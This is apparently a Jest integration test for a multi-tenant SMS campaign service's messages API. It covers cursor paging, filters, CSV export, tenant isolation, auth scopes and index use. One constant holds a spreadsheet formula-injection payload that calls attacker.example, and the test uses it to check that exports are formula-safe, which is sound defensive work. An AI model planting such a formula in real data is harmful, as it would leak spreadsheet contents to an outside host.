import { randomBytes } from 'node:crypto';
import { AllTopics, AuthErrorCode, MessageStatus, Scope, TENANT_HEADER } from '@ums/contracts';
import { createDataSource, ensureTopics, KafkaNames, NEVER_SQL, runPendingMigrations } from '@ums/platform';
import {
  bearer,
  createTenantKey,
  createTestDatabase,
  serviceEnv,
  type ServiceProcess,
  startServiceProcess,
  TEST_OPERATOR_KEY,
  testKafka,
} from '@ums/testing';
import { parse } from 'csv-parse/sync';
import type { DataSource } from 'typeorm';

jest.setTimeout(180_000);

const RUN_MESSAGES = 12_345; // more than two CSV export pages of 5000, not a multiple of any page size
const OTHER_RUN_MESSAGES = 2_500;
const ITEM_KEYS = [
  'id',
  'recipient',
  'state',
  'attempts',
  'providerMessageId',
  'reason',
  'errorCode',
  'errorText',
  'sentAt',
  'deliveredAt',
  'readAt',
  'failedAt',
  'updatedAt',
];
const TRICKY_TEXT = 'rejected, "blocked"\nby carrier';
const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1)';

interface Item {
  id: string;
  recipient: string;
  state: string;
  attempts: number;
  providerMessageId: string | null;
  errorText: string | null;
  failedAt: string | null;
}
interface Page {
  items: Item[];
  nextAfter: string | null;
}
interface Answer {
  status: number;
  headers: Headers;
  text: string;
}
interface ErrorBody {
  error: { code: string; message: string; fields?: { field: string }[] };
}

/** Deterministic mix of states over a run's messages. */
function stateOf(i: number): MessageStatus {
  if (i % 97 === 0) return MessageStatus.Unknown;
  if (i % 100 === 99) return MessageStatus.Skipped;
  if (i % 100 === 98) return MessageStatus.Sending;
  switch (i % 10) {
    case 3:
      return MessageStatus.Failed;
    case 0:
    case 1:
      return MessageStatus.Delivered;
    case 2:
    case 4:
      return MessageStatus.Read;
    case 5:
      return MessageStatus.Pending;
    default:
      return MessageStatus.Sent;
  }
}

const recipientOf = (i: number): string => `+1555${String(i).padStart(7, '0')}`;

/** The messages and runs read API of the real service (built from dist/) over a seeded database. */
describe('messages API (service process)', () => {
  let database: Awaited<ReturnType<typeof createTestDatabase>>;
  let ds: DataSource;
  let service: ServiceProcess;
  /** Keys of tenant t1 (whose campaigns, runs and messages these are) and of tenant t2. */
  let keyT1: string;
  let keyT2: string;
  let runA: string; // the run under test (campaign camp-a)
  let runA2: string; // another run of camp-a, its messages interleaved with runA's
  let runB: string; // a run of camp-b
  /** runA's messages as stored, in id order: the truth every listing is compared with. */
  let truth: { id: string; state: string; recipient: string }[];

  /** Rows as messageRow makes them: the provider id (index 10) goes to its own table, NULL times are NEVER. */
  async function insertMessages(rows: unknown[][]): Promise<void> {
    // Multi-row statements of 1000 rows, as the hot paths write them.
    const never = `COALESCE(?, ${NEVER_SQL})`;
    for (let start = 0; start < rows.length; start += 1000) {
      const chunk = rows.slice(start, start + 1000);
      await ds.query(
        `INSERT INTO messages (run_id, campaign_id, tenant_id, contact_id, channel, credential_id, recipient, lane,
           state, attempts, reason, error_code, error_text, idempotency_key, sent_at, delivered_at, read_at, failed_at)
         VALUES ${chunk.map(() => `(?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ${never}, ${never}, ${never}, ${never})`).join(', ')}`,
        chunk.flatMap((row) => [...row.slice(0, 10), ...row.slice(11)]),
      );
      const named = chunk.filter((row) => row[10] !== null);
      if (named.length === 0) continue;
      await ds.query(
        `INSERT INTO message_provider_ids (message_id, provider_message_id)
         VALUES ${named.map(() => '((SELECT id FROM messages WHERE run_id = ? AND contact_id = ?), ?)').join(', ')}`,
        named.flatMap((row) => [row[0], row[3], row[10]]),
      );
    }
  }

  function messageRow(runId: string, campaignId: string, i: number, recipient: string): unknown[] {
    const state = stateOf(i);
    const at = new Date(Date.UTC(2030, 0, 1, 0, 0, 0, i));
    const sent = [MessageStatus.Sent, MessageStatus.Delivered, MessageStatus.Read].includes(state);
    const failed = state === MessageStatus.Failed;
    return [
      runId,
      campaignId,
      't1',
      i + 1,
      'sms',
      'cred-m',
      recipient,
      'bulk',
      state,
      state === MessageStatus.Pending ? 0 : 1,
      i === 1 ? FORMULA : sent || failed ? `sim-${runId}-${i}` : null,
      failed ? 'PROVIDER_REJECTED' : null,
      failed ? '21211' : null,
      failed || i === 1 ? TRICKY_TEXT : null,
      null,
      sent ? at : null,
      state === MessageStatus.Delivered || state === MessageStatus.Read ? at : null,
      state === MessageStatus.Read ? at : null,
      failed ? at : null,
    ];
  }

  beforeAll(async () => {
    database = await createTestDatabase('ums_messages');
    ds = createDataSource(database.settings);
    await ds.initialize();
    await runPendingMigrations(ds);

    await ds.query(
      `INSERT INTO credentials (id, tenant_id, name, provider, channel, config, rate_ceiling_per_sec, rate_floor_per_sec)
       VALUES ('cred-m', 't1', 'sim', 'simulator', 'sms', '{}', 100, 1)`,
    );
    await ds.query(
      `INSERT INTO campaigns (id, tenant_id, name, channel, credential_id, template, schedule_kind, state)
       VALUES ('camp-a', 't1', 'a', 'sms', 'cred-m', '{}', 'now', 'COMPLETED'),
              ('camp-b', 't1', 'b', 'sms', 'cred-m', '{}', 'now', 'COMPLETED')`,
    );
    const insertRun = async (campaignId: string, fireAt: string): Promise<string> => {
      const result = (await ds.query('INSERT INTO runs (campaign_id, fire_at, state) VALUES (?, ?, ?)', [
        campaignId,
        fireAt,
        // Finished runs: the scheduler's pollers and sweeper leave them alone.
        'COMPLETED',
      ])) as { insertId: number | string };
      return String(result.insertId);
    };
    runA = await insertRun('camp-a', '2030-01-01 00:00:00');
    runA2 = await insertRun('camp-a', '2030-01-02 00:00:00');
    runB = await insertRun('camp-b', '2030-01-01 00:00:00');

    // runA2's messages are interleaved with runA's, so runA's ids are not contiguous.
    const rows: unknown[][] = [];
    let other = 0;
    for (let i = 0; i < RUN_MESSAGES; i++) {
      rows.push(messageRow(runA, 'camp-a', i, recipientOf(i)));
      if (i % 5 === 0 && other < OTHER_RUN_MESSAGES) {
        // Recipient 42 is also in the other run: a recipient filter must stay within the run.
        rows.push(
          messageRow(
            runA2,
            'camp-a',
            other,
            other === 0 ? recipientOf(42) : `+1666${String(other).padStart(7, '0')}`,
          ),
        );
        other++;
      }
    }
    await insertMessages(rows);
    // Single sends: no run, found by (tenant, idempotency key).
    await ds.query(
      `INSERT INTO messages (campaign_id, tenant_id, channel, credential_id, recipient, lane, state, idempotency_key, content)
       VALUES ('single', 't1', 'sms', 'cred-m', '+15559990001', 'priority', 'SENT', 'req-1', '{"text":"hi"}'),
              ('single', 't2', 'sms', 'cred-m', '+15559990002', 'priority', 'FAILED', 'req-1', '{"text":"hi"}')`,
    );
    truth = (await ds.query('SELECT id, state, recipient FROM messages WHERE run_id = ? ORDER BY id', [
      runA,
    ])) as {
      id: string;
      state: string;
      recipient: string;
    }[];
    expect(truth).toHaveLength(RUN_MESSAGES);

    const namespace = `t-${randomBytes(4).toString('hex')}`;
    await ensureTopics(testKafka(), AllTopics, 1, new KafkaNames(namespace));
    service = await startServiceProcess({
      app: 'campaign-scheduler',
      env: {
        ...serviceEnv(database.settings.database, namespace),
      },
    });
    keyT1 = await createTenantKey(service.url, 't1');
    keyT2 = await createTenantKey(service.url, 't2');
  });

  afterAll(async () => {
    await service?.process.stop();
    if (ds?.isInitialized) await ds.destroy();
    await database?.drop();
  });

  /** A request with `key` (t1's unless given; null: none) and any other headers. */
  async function request(
    method: string,
    path: string,
    key: string | null = keyT1,
    headers: Record<string, string> = {},
  ): Promise<Answer> {
    const response = await fetch(`${service.url}${path}`, {
      method,
      headers: { ...(key === null ? {} : bearer(key)), ...headers },
    });
    return { status: response.status, headers: response.headers, text: await response.text() };
  }

  function get(
    path: string,
    key: string | null = keyT1,
    headers: Record<string, string> = {},
  ): Promise<Answer> {
    return request('GET', path, key, headers);
  }

  async function getJson<T>(
    path: string,
    key: string = keyT1,
    headers: Record<string, string> = {},
  ): Promise<T> {
    const answer = await get(path, key, headers);
    expect({ path, status: answer.status }).toEqual({ path, status: 200 });
    return JSON.parse(answer.text) as T;
  }

  const runPath = (runId = runA, campaignId = 'camp-a'): string =>
    `/v1/campaigns/${campaignId}/runs/${runId}/messages`;

  /** Follows nextAfter from the first page to the last; returns every item and each page's size. */
  async function walk(query: Record<string, string>): Promise<{ items: Item[]; pageSizes: number[] }> {
    const items: Item[] = [];
    const pageSizes: number[] = [];
    let after: string | null = null;
    do {
      const params = new URLSearchParams({ ...query, ...(after === null ? {} : { after }) });
      const page: Page = await getJson<Page>(`${runPath()}?${params.toString()}`);
      items.push(...page.items);
      pageSizes.push(page.items.length);
      after = page.nextAfter;
      expect(pageSizes.length).toBeLessThan(1000); // a cursor that never ends fails instead of hanging
    } while (after !== null);
    return { items, pageSizes };
  }

  function expectValidationFailure(answer: Answer, field: string): void {
    expect({ status: answer.status, field }).toEqual({ status: 400, field });
    const body = JSON.parse(answer.text) as ErrorBody;
    expect(body.error.code).toBe('VALIDATION_FAILED');
    expect(body.error.fields?.map((f) => f.field)).toContain(field);
  }

  it('pages through every message of the run exactly once, in id order', async () => {
    const { items, pageSizes } = await walk({ limit: '1000' });
    expect(pageSizes).toEqual([...Array<number>(12).fill(1000), 345]);
    expect(items.map((item) => item.id)).toEqual(truth.map((row) => row.id));
    expect(items.map((item) => item.state)).toEqual(truth.map((row) => row.state));
  });

  it('answers the default page of 100 with ids as strings and every field', async () => {
    const page = await getJson<Page>(runPath());
    expect(page.items).toHaveLength(100);
    expect(page.nextAfter).toBe(page.items[99]?.id);
    for (const item of page.items) {
      expect(Object.keys(item)).toEqual(ITEM_KEYS);
      expect(typeof item.id).toBe('string');
    }
    const failed = page.items.find((item) => item.state === 'FAILED');
    expect(failed).toMatchObject({
      reason: 'PROVIDER_REJECTED',
      errorCode: '21211',
      errorText: TRICKY_TEXT,
      failedAt: expect.stringMatching(/^2030-01-01T00:00:00\.\d{3}Z$/),
      attempts: 1,
    });
    const delivered = page.items.find((item) => item.state === 'DELIVERED');
    expect(delivered).toMatchObject({ deliveredAt: expect.any(String), readAt: null, failedAt: null });
  });

  it('filters by state (one or several), covering each match exactly once', async () => {
    for (const [states, limit] of [
      [['FAILED', 'UNKNOWN'], '333'],
      [['READ'], '500'],
      [['SKIPPED', 'SENDING', 'PENDING'], '1000'],
      [Object.values(MessageStatus), '777'],
    ] as const) {
      const { items } = await walk({ state: states.join(','), limit });
      const expected = truth
        .filter((row) => (states as readonly string[]).includes(row.state))
        .map((row) => row.id);
      expect(expected.length).toBeGreaterThan(0);
      expect({ states, ids: items.map((item) => item.id) }).toEqual({ states, ids: expected });
    }
    const unknown = await walk({ state: 'UNKNOWN', limit: '7' });
    expect(unknown.items.every((item) => item.state === 'UNKNOWN')).toBe(true);
    expect(unknown.items).toHaveLength(truth.filter((row) => row.state === 'UNKNOWN').length);
  });

  it('filters by exact recipient within the run', async () => {
    const target = recipientOf(42);
    const { items } = await walk({ recipient: target });
    expect(items.map((item) => item.id)).toEqual(
      truth.filter((row) => row.recipient === target).map((row) => row.id),
    );
    expect(items).toHaveLength(1);
    const withState = await walk({
      recipient: target,
      state: items[0]?.state === 'FAILED' ? 'READ' : 'FAILED',
    });
    expect(withState.items).toEqual([]);
    const elsewhere = await walk({ recipient: '+16660000001' }); // a recipient of the other run only
    expect(elsewhere.items).toEqual([]);
  });

  it('answers 404 RUN_NOT_FOUND unless the run belongs to the campaign', async () => {
    for (const path of [
      runPath(runB, 'camp-a'),
      runPath(runA, 'camp-b'),
      runPath('999999', 'camp-a'),
      runPath(runA, 'nope'),
    ]) {
      for (const suffix of ['', '/export.csv']) {
        const answer = await get(`${path}${suffix}`);
        expect({ path: `${path}${suffix}`, status: answer.status }).toEqual({
          path: `${path}${suffix}`,
          status: 404,
        });
        expect((JSON.parse(answer.text) as ErrorBody).error.code).toBe('RUN_NOT_FOUND');
      }
    }
    // The other run of the same campaign is listed on its own.
    const other = await getJson<Page>(`${runPath(runA2)}?limit=1000`);
    expect(other.items).toHaveLength(1000);
  });

  it('refuses bad filters, naming the field', async () => {
    expectValidationFailure(await get(`${runPath()}?state=FAILED,BOGUS`), 'state');
    expectValidationFailure(await get(`${runPath()}?limit=0`), 'limit');
    expectValidationFailure(await get(`${runPath()}?limit=1001`), 'limit');
    expectValidationFailure(await get(`${runPath()}?after=abc`), 'after');
    expectValidationFailure(await get(`${runPath()}?offset=100`), 'offset');
    expectValidationFailure(await get(runPath('abc')), 'runId');
    expectValidationFailure(await get(`${runPath()}/export.csv?state=NOPE`), 'state');
  });

  it('exports the run as CSV: header, every row once, quoted and formula-safe', async () => {
    const answer = await get(`${runPath()}/export.csv`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="run-${runA}-messages.csv"`);
    const header = answer.text.slice(0, answer.text.indexOf('\n'));
    expect(header.split(',')).toEqual(ITEM_KEYS);
    const records = parse(answer.text, { columns: true }) as Record<string, string>[];
    expect(records.map((record) => record['id'])).toEqual(truth.map((row) => row.id));
    expect(records.map((record) => record['state'])).toEqual(truth.map((row) => row.state));
    const second = records[1];
    expect(second).toMatchObject({
      providerMessageId: `'${FORMULA}`,
      errorText: TRICKY_TEXT,
      recipient: recipientOf(1),
    });
    // Same values as the JSON listing (empty cells for nulls).
    const page = await getJson<Page>(`${runPath()}?limit=3`);
    expect(records.slice(0, 3).map((record) => record['sentAt'])).toEqual(
      page.items.map((item) => (item as unknown as Record<string, string | null>)['sentAt'] ?? ''),
    );
  });

  it('exports with the same filters', async () => {
    const answer = await get(`${runPath()}/export.csv?state=FAILED,UNKNOWN`);
    expect(answer.status).toBe(200);
    const records = parse(answer.text, { columns: true }) as Record<string, string>[];
    expect(records.map((record) => record['id'])).toEqual(
      truth.filter((row) => row.state === 'FAILED' || row.state === 'UNKNOWN').map((row) => row.id),
    );
    const one = parse(
      (await get(`${runPath()}/export.csv?recipient=${encodeURIComponent(recipientOf(7))}`)).text,
      {
        columns: true,
      },
    ) as Record<string, string>[];
    expect(one.map((record) => record['recipient'])).toEqual([recipientOf(7)]);
    const none = await get(`${runPath()}/export.csv?recipient=nobody`);
    expect(none.text).toBe(`${ITEM_KEYS.join(',')}\n`);
  });

  it('reads one message by id', async () => {
    const id = truth[3]?.id ?? '';
    const message = await getJson<Record<string, unknown>>(`/v1/messages/${id}`);
    expect(message).toMatchObject({
      id,
      runId: runA,
      campaignId: 'camp-a',
      tenantId: 't1',
      channel: 'sms',
      credentialId: 'cred-m',
      lane: 'bulk',
      recipient: recipientOf(3),
      state: 'FAILED',
      idempotencyKey: null,
      createdAt: expect.any(String),
      archived: false,
    });
    const missing = await get('/v1/messages/999999999');
    expect(missing.status).toBe(404);
    expect((JSON.parse(missing.text) as ErrorBody).error.code).toBe('MESSAGE_NOT_FOUND');
    expectValidationFailure(await get('/v1/messages/12abc'), 'id');
  });

  it("finds a single send of the caller's tenant by the producer's idempotency key", async () => {
    // Both tenants used the same request id: each key finds its own tenant's send.
    const t1 = await getJson<Record<string, unknown>>('/v1/messages?idempotencyKey=req-1', keyT1);
    expect(t1).toMatchObject({
      tenantId: 't1',
      idempotencyKey: 'req-1',
      runId: null,
      state: 'SENT',
      lane: 'priority',
    });
    const t2 = await getJson<Record<string, unknown>>('/v1/messages?idempotencyKey=req-1', keyT2);
    expect(t2).toMatchObject({ tenantId: 't2', state: 'FAILED' });
    expect(t2['id']).not.toBe(t1['id']);
    const byId = await getJson<Record<string, unknown>>(`/v1/messages/${String(t1['id'])}`);
    expect(byId).toEqual(t1);
    // The operator names the tenant; without one the lookup has no tenant to search.
    const asOperator = await getJson<Record<string, unknown>>(
      '/v1/messages?idempotencyKey=req-1',
      TEST_OPERATOR_KEY,
      { [TENANT_HEADER]: 't2' },
    );
    expect(asOperator['id']).toBe(t2['id']);
    const noTenant = await get('/v1/messages?idempotencyKey=req-1', TEST_OPERATOR_KEY);
    expect(noTenant.status).toBe(400);
    expect((JSON.parse(noTenant.text) as ErrorBody).error.code).toBe('TENANT_REQUIRED');
    const missing = await get('/v1/messages?idempotencyKey=req-2');
    expect(missing.status).toBe(404);
    expect((JSON.parse(missing.text) as ErrorBody).error.code).toBe('MESSAGE_NOT_FOUND');
    expectValidationFailure(await get('/v1/messages'), 'idempotencyKey');
    // The tenant is the key's: a tenantId in the query is refused, not followed.
    expectValidationFailure(await get('/v1/messages?tenantId=t2&idempotencyKey=req-1'), 'tenantId');
  });

  it('answers without a key 401, and without the scope 403', async () => {
    const campaignsOnly = await createTenantKey(service.url, 't1', [Scope.CampaignsRead]);
    const messageId = truth[0]?.id ?? '';
    for (const path of [
      runPath(),
      `${runPath()}/export.csv`,
      `/v1/messages/${messageId}`,
      '/v1/messages?idempotencyKey=req-1',
    ]) {
      const noKey = await get(path, null);
      expect({ path, status: noKey.status }).toEqual({ path, status: 401 });
      expect((JSON.parse(noKey.text) as ErrorBody).error.code).toBe(AuthErrorCode.Missing);
      const noScope = await get(path, campaignsOnly);
      expect({ path, status: noScope.status }).toEqual({ path, status: 403 });
      expect((JSON.parse(noScope.text) as ErrorBody).error.code).toBe(AuthErrorCode.ScopeMissing);
    }
    const readOnly = await createTenantKey(service.url, 't1', [Scope.CampaignsRead, Scope.MessagesRead]);
    expect((await get(`/v1/campaigns/camp-a/runs/${runA}`, readOnly)).status).toBe(200);
    const action = await request('POST', `/v1/campaigns/camp-a/runs/${runA}/retry-failed`, readOnly);
    expect({ status: action.status, code: (JSON.parse(action.text) as ErrorBody).error.code }).toEqual({
      status: 403,
      code: AuthErrorCode.ScopeMissing,
    });
  });

  /** The error of an answer, with `id` written as <id>: a foreign id and a missing one must read alike. */
  function errorShape(answer: Answer, id: string): { status: number; code: string; message: string } {
    const { error } = JSON.parse(answer.text) as ErrorBody;
    return { status: answer.status, code: error.code, message: error.message.split(id).join('<id>') };
  }

  it("answers tenant B about tenant A's runs and messages exactly as about missing ones", async () => {
    const missingRun = '999999';
    const messageId = truth[3]?.id ?? '';
    const runState = async (): Promise<unknown> =>
      ds.query(
        `SELECT r.state, r.lease_epoch, r.failed, r.unknown, r.pending, r.updated_at,
                (SELECT COUNT(*) FROM messages m WHERE m.run_id = r.id AND m.state = 'PENDING') AS pending_rows
           FROM runs r WHERE r.id = ?`,
        [runA],
      );
    const before = await runState();

    for (const suffix of ['', '/messages', '/messages/export.csv']) {
      const foreign = await get(`/v1/campaigns/camp-a/runs/${runA}${suffix}`, keyT2);
      const missing = await get(`/v1/campaigns/camp-a/runs/${missingRun}${suffix}`, keyT2);
      expect({ suffix, ...errorShape(foreign, runA) }).toEqual({
        suffix,
        ...errorShape(missing, missingRun),
      });
      expect(foreign.status).toBe(404);
      expect((JSON.parse(foreign.text) as ErrorBody).error.code).toBe('RUN_NOT_FOUND');
    }
    for (const action of ['pause', 'resume', 'stop', 'cancel', 'retry-failed', 'resend-unknown']) {
      const foreign = await request('POST', `/v1/campaigns/camp-a/runs/${runA}/${action}`, keyT2);
      const missing = await request('POST', `/v1/campaigns/camp-a/runs/${missingRun}/${action}`, keyT2);
      expect({ action, ...errorShape(foreign, runA) }).toEqual({
        action,
        ...errorShape(missing, missingRun),
      });
      expect(foreign.status).toBe(404);
    }
    // Nothing of the run changed (no action reached it, no message was put back to PENDING).
    expect(await runState()).toEqual(before);
    // The run's own tenant reaches it: the action is refused by the run's state, not for the tenant.
    const own = await request('POST', `/v1/campaigns/camp-a/runs/${runA}/pause`, keyT1);
    expect({ status: own.status, code: (JSON.parse(own.text) as ErrorBody).error.code }).toEqual({
      status: 409,
      code: 'RUN_TRANSITION_REFUSED',
    });

    const foreignMessage = await get(`/v1/messages/${messageId}`, keyT2);
    expect(errorShape(foreignMessage, messageId)).toEqual(
      errorShape(await get('/v1/messages/999999999', keyT2), '999999999'),
    );
    expect(errorShape(foreignMessage, messageId)).toMatchObject({ status: 404, code: 'MESSAGE_NOT_FOUND' });

    // Lists: A's campaign is not found for B, as a missing one; both runs for A.
    const listOf = async (key: string): Promise<string[]> =>
      (await getJson<{ items: { id: string }[] }>('/v1/campaigns/camp-a/runs', key)).items.map((r) => r.id);
    const foreignList = await get('/v1/campaigns/camp-a/runs', keyT2);
    const missingList = await get('/v1/campaigns/camp-none/runs', keyT2);
    expect(foreignList.status).toBe(404);
    expect(errorShape(foreignList, 'camp-a')).toEqual(errorShape(missingList, 'camp-none'));
    expect(await listOf(keyT1)).toEqual([runA2, runA]);

    // The operator without a tenant reaches every tenant's; with X-Ums-Tenant only that tenant's.
    expect(await listOf(TEST_OPERATOR_KEY)).toEqual([runA2, runA]);
    expect((await get(`/v1/messages/${messageId}`, TEST_OPERATOR_KEY)).status).toBe(200);
    const asT2 = await get(`/v1/campaigns/camp-a/runs/${runA}/messages`, TEST_OPERATOR_KEY, {
      [TENANT_HEADER]: 't2',
    });
    expect(asT2.status).toBe(404);
  });

  it('filters by tenant at no cost: primary keys and the run indexes, no sort', async () => {
    await ds.query('ANALYZE TABLE messages, runs, campaigns');
    // TRADITIONAL: MySQL 9.7 prints a tree by default (explain_format); MariaDB 10.11 and MySQL 8 take it too.
    const plan = async (
      sql: string,
      params: unknown[],
    ): Promise<{ table: string; key: string | null; extra: string }[]> =>
      (
        (await ds.query(`EXPLAIN FORMAT=TRADITIONAL ${sql}`, params)) as {
          table: string;
          key: string | null;
          Extra: string | null;
        }[]
      ).map((row) => ({ table: row.table, key: row.key, extra: row.Extra ?? '' }));
    // The run of a tenant's campaign (runs and messages reads): two primary-key reads.
    const run = await plan(
      `SELECT 1 FROM runs r JOIN campaigns c ON c.id = r.campaign_id
        WHERE r.id = ? AND r.campaign_id = ? AND c.tenant_id = ?`,
      [runA, 'camp-a', 't1'],
    );
    expect(run.map((row) => row.key)).toEqual(['PRIMARY', 'PRIMARY']);
    // A page of one state: the (run_id, state, id) range in id order; the tenant compared on the rows read.
    const page = await plan(
      `SELECT m.id, m.recipient FROM messages m
        WHERE m.run_id = ? AND m.state = ? AND m.id > ? AND m.tenant_id = ? ORDER BY m.id LIMIT 100`,
      [runA, 'FAILED', 0, 't1'],
    );
    expect(page).toHaveLength(1);
    expect(page[0]?.key).toBe('idx_messages_run_state');
    expect(page[0]?.extra).not.toContain('filesort');
    // A message by id.
    const message = await plan('SELECT m.id FROM messages m WHERE m.id = ? AND m.tenant_id = ?', [
      truth[0]?.id,
      't1',
    ]);
    expect(message.map((row) => row.key)).toEqual(['PRIMARY']);
  });
});
